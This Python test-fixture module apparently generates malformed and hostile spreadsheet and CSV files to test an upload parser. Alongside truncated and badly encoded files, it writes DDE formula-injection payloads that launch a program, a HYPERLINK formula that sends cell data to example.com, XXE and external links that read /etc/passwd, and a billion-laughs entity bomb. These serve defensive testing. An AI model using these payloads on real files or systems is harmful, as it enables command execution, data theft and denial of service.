"""Files that are broken, and files that are dangerous."""

from __future__ import annotations

from pathlib import Path

import xlwt
from tests.lists import raw
from tests.lists.bad.common import HEADER, bytes_file, csv_file, honest, row, xlsx_file


def truncated_xlsx(folder: Path) -> Path:
    """Half an upload: the end of the file, with its table of contents, never came."""
    whole = xlsx_file(folder / "setengah.xlsx", honest(300))
    content = whole.read_bytes()
    whole.write_bytes(content[: len(content) * 6 // 10])
    return whole


def truncated_xls(folder: Path) -> Path:
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("Data")
    for number, cells in enumerate(honest(200)):
        for column, cell in enumerate(cells):
            sheet.write(number, column, cell)
    path = folder / "setengah.xls"
    workbook.save(str(path))
    content = path.read_bytes()
    path.write_bytes(content[: len(content) // 2])
    return path


def broken_xml(folder: Path) -> Path:
    pieces = [f"{raw.SHEET_HEAD}<sheetData>", raw.rows(HEADER), "<row><c><v>1</row>"]
    return raw.write_package(folder / "rusak.xlsx", pieces)


def mixed_encoding(folder: Path) -> Path:
    """Pasted together from three sources: UTF-8, cp1252, and bytes that are neither."""
    lines = [",".join(cells).encode() for cells in honest(4)]
    lines[2] = lines[2].replace(b"Contoh", "Café".encode("cp1252"))
    lines[3] = lines[3].replace(b"Contoh", "Café".encode())
    lines[4] = lines[4].replace(b"Contoh", b"Caf\x81\xfe\xff\x9d")
    return bytes_file(folder, "sandi campur.csv", b"\r\n".join(lines) + b"\r\n")


def utf16_without_mark(folder: Path) -> Path:
    text = "\r\n".join("\t".join(cells) for cells in honest(5))
    return bytes_file(folder, "tanpa tanda.csv", text.encode("utf-16-le"))


def utf16_odd(folder: Path) -> Path:
    """UTF-16 that was cut in the middle of a character."""
    text = "\r\n".join("\t".join(cells) for cells in honest(5))
    return bytes_file(folder, "ganjil.csv", text.encode("utf-16")[:-1])


def nul_bytes(folder: Path) -> Path:
    text = "\r\n".join(",".join(cells) for cells in honest(4)).replace("Contoh 2", "Con\x00toh 2") + "\x00\x00"
    return bytes_file(folder, "nul.csv", text.encode())


def unbalanced_quotes(folder: Path) -> Path:
    """A quotation mark is opened in the second of forty rows and never closed."""
    lines = [",".join(cells) for cells in honest(40)]
    lines[2] = lines[2].replace("Siti", '"Siti')
    return bytes_file(folder, "kutip.csv", "\n".join(lines).encode())


def ragged(folder: Path) -> Path:
    """Commas inside unquoted addresses: rows of nine to thirteen fields under a header of ten."""
    lines = [",".join(cells) for cells in honest(6)]
    lines[3] = lines[3].replace(" RT 01", ", RT 01, Blok B")
    lines[5] = lines[5].rsplit(",", 1)[0]
    return bytes_file(folder, "koma.csv", "\n".join(lines).encode())


def duplicate_headers(folder: Path) -> Path:
    rows = [tuple("Nama" if cell.startswith("Nama") else cell for cell in HEADER), *honest(4)[1:]]
    return xlsx_file(
        folder / "judul kembar.xlsx", [(*rows[0], "No HP", "Nama"), *((*cells, "", "") for cells in rows[1:])]
    )


def formulas(folder: Path) -> Path:
    """Formulas that call programs, send data away or read another file, where names and products should stand."""
    rows: list[tuple[object, ...]] = list(honest(4))
    rows[1] = ("1", "=cmd|' /C calc'!A0", *rows[1][2:])
    rows[2] = (*rows[2][:2], '=HYPERLINK("http://example.com/?x="&D2,"Batik Contoh")', *rows[2][3:])
    rows[3] = (*rows[3][:8], "='[daftar lain.xlsx]Sheet1'!A1", "=1+1")
    rows[4] = (*rows[4][:8], "@SUM(1+1)*cmd|' /C calc'!A0", "=2*2")
    return xlsx_file(folder / "rumus.xlsx", rows)


def formulas_csv(folder: Path) -> Path:
    """The same as text: harmless here, dangerous when it is exported again."""
    rows = honest(4)
    rows[1] = (rows[1][0], "=cmd|' /C calc'!A0", *rows[1][2:])
    rows[2] = (*rows[2][:2], '=HYPERLINK("http://example.com/?x="&D2,"klik")', *rows[2][3:])
    rows[3] = (*rows[3][:8], "-2+3+cmd|' /C calc'!D2", rows[3][9])
    rows[4] = (*rows[4][:8], "\t@SUM(1+1)", rows[4][9])
    return csv_file(folder / "rumus.csv", rows)


def external_links(folder: Path) -> Path:
    """A sheet whose relations point to a remote workbook and a local secret."""
    relations = raw.WORKBOOK_RELATIONS.replace(
        "</Relationships>",
        f'<Relationship Id="rId9" Type="{raw.OFFICE}/externalLinkPath" Target="file:///etc/passwd" '
        'TargetMode="External"/>'
        f'<Relationship Id="rId8" Type="{raw.OFFICE}/attachedTemplate" Target="http://example.com/x.dotm" '
        'TargetMode="External"/></Relationships>',
    )
    return raw.write_package(
        folder / "tautan luar.xlsx", raw.sheet(*honest(2)), parts={"xl/_rels/workbook.xml.rels": relations}
    )


def xml_entity(folder: Path) -> Path:
    """An entity that names a local file, used as an owner's name."""
    head = raw.SHEET_HEAD.replace("?><", '?><!DOCTYPE x [<!ENTITY rahasia SYSTEM "file:///etc/passwd">]><')
    stolen = ("1", "&rahasia;", *row(1)[2:])
    return raw.write_package(folder / "entitas.xlsx", raw.sheet(HEADER, stolen, head=head))


def billion_laughs(folder: Path) -> Path:
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    shared = raw.SHARED_STRINGS.replace("?><", f'?><!DOCTYPE x [<!ENTITY a0 "tawa">{levels}]><').replace(
        "</sst>", "<si><t>&a9;</t></si></sst>"
    )
    cell = '<row r="2"><c t="s"><v>0</v></c></row>'
    return raw.write_package(folder / "tawa.xlsx", raw.sheet(HEADER, more=cell), parts={"xl/sharedStrings.xml": shared})
